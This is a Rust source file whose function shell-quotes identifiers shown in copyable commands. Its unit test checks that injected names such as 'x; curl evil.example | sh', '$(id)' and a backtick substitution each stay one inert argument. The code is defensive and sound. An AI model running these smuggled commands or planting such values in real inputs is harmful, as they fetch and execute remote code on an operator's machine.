//! Arguments of commands in texts for people.

use std::borrow::Cow;

/// An argument of a command, quoted for a shell if it needs to be: people copy such commands. Commands stand
/// between backticks, so a text with a backtick cannot be shown in one, and `ID` takes its place.
pub(crate) fn argument(text: &str) -> Cow<'_, str> {
    match shlex::try_quote(text) {
        Ok(quoted) if !quoted.contains('`') => quoted,
        _ => Cow::Borrowed("ID"),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// An application was named `x; curl evil.example | sh`, and an operator copied the command that a
    /// refusal told.
    #[test]
    fn a_name_from_others_stays_one_argument_of_the_command_that_a_text_tells() {
        for (id, shown) in [
            ("shop", "shop"),
            ("shop@a.example", "shop@a.example"),
            ("web shop", "'web shop'"),
            ("x; curl evil.example | sh", "'x; curl evil.example | sh'"),
            ("$(id)", "'$(id)'"),
            ("it's", r#""it's""#),
            ("`id`", "ID"),
            ("", "''"),
        ] {
            assert_eq!(argument(id), shown);
            let parts = shlex::split(&argument(id)).unwrap();
            assert_eq!(parts.len(), 1, "{id}");
        }
    }
}
